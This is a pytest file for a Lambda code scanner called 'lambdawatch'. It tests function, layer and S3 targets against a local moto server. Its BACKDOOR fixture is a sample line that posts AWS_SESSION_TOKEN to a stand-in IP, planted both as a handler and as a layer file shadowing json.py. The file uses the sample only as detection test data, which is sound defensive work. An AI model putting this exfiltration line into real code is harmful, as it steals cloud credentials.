"""AWS targets against moto's server over real HTTP; the code URL is served by a local server."""

from __future__ import annotations

import http.server
import io
import threading
import urllib.request
import zipfile
from collections.abc import Iterator

import boto3
import pytest
from moto.server import ThreadedMotoServer

from lambdawatch.codescan import scan_target
from lambdawatch.errors import AwsError, UsageError

BACKDOOR = b"import os\nimport requests\nrequests.post('http://203.0.113.9/x', data=os.environ['AWS_SESSION_TOKEN'])\n"


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    return buf.getvalue()


FUNCTION_ZIP = _zip("handler.py", BACKDOOR)
LAYER_ZIP = _zip("python/json.py", BACKDOOR)


@pytest.fixture(scope="session")
def moto_endpoint() -> Iterator[str]:
    mp = pytest.MonkeyPatch()
    for k, v in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
    }.items():
        mp.setenv(k, v)
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()
    mp.undo()


@pytest.fixture(scope="session")
def code_server() -> Iterator[str]:
    packages = {"/function.zip": FUNCTION_ZIP, "/layer.zip": LAYER_ZIP}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            body = packages.get(self.path)
            self.send_response(200 if body else 404)
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *args: object) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()


@pytest.fixture(scope="session")
def aws(moto_endpoint: str) -> dict[str, object]:
    iam = boto3.client("iam", endpoint_url=moto_endpoint)
    lam = boto3.client("lambda", endpoint_url=moto_endpoint)
    s3 = boto3.client("s3", endpoint_url=moto_endpoint)
    role = iam.create_role(RoleName="fn-role", AssumeRolePolicyDocument="{}")["Role"]["Arn"]
    lam.create_function(
        FunctionName="payments",
        Runtime="python3.12",
        Role=role,
        Handler="handler.handler",
        Code={"ZipFile": FUNCTION_ZIP},
    )
    layer = lam.publish_layer_version(LayerName="utils", Content={"ZipFile": LAYER_ZIP})
    s3.create_bucket(Bucket="deploy")
    s3.put_object(Bucket="deploy", Key="builds/fn.zip", Body=FUNCTION_ZIP)
    return {"lambda": lam, "s3": s3, "layer_arn": layer["LayerVersionArn"]}


def _downloader(code_server: str, name: str, seen: list[str]):
    def download(url: str) -> bytes:
        seen.append(url)  # the URL moto returned; the bytes come from the local server
        with urllib.request.urlopen(f"{code_server}/{name}") as resp:
            return resp.read()

    return download


def test_function_target(aws: dict, code_server: str) -> None:
    seen: list[str] = []
    result = scan_target(
        "lambda:payments",
        lambda_client=aws["lambda"],
        downloader=_downloader(code_server, "function.zip", seen),
    )
    assert seen and "payments" in seen[0]
    assert {(f.code, f.file, f.line) for f in result.findings if f.code == "CS202"} == {
        ("CS202", "handler.py", 3)
    }


def test_layer_target(aws: dict, code_server: str) -> None:
    seen: list[str] = []
    result = scan_target(
        aws["layer_arn"],
        lambda_client=aws["lambda"],
        downloader=_downloader(code_server, "layer.zip", seen),
    )
    assert seen
    assert ("PK010", "python/json.py", 3) in {(f.code, f.file, f.line) for f in result.findings}


def test_s3_target(aws: dict) -> None:
    result = scan_target("s3://deploy/builds/fn.zip", s3_client=aws["s3"])
    assert result.target == "s3://deploy/builds/fn.zip"
    assert "CS202" in {f.code for f in result.findings}


def test_missing_function_is_an_aws_error(aws: dict) -> None:
    with pytest.raises(AwsError, match="GetFunction nope"):
        scan_target("lambda:nope", lambda_client=aws["lambda"], downloader=lambda u: b"")


def test_missing_object_is_an_aws_error(aws: dict) -> None:
    with pytest.raises(AwsError, match="NoSuchKey"):
        scan_target("s3://deploy/missing.zip", s3_client=aws["s3"])


def test_bad_targets_are_usage_errors() -> None:
    with pytest.raises(UsageError):
        scan_target("s3://bucket-only")
    with pytest.raises(UsageError):
        scan_target("/no/such/path.zip")
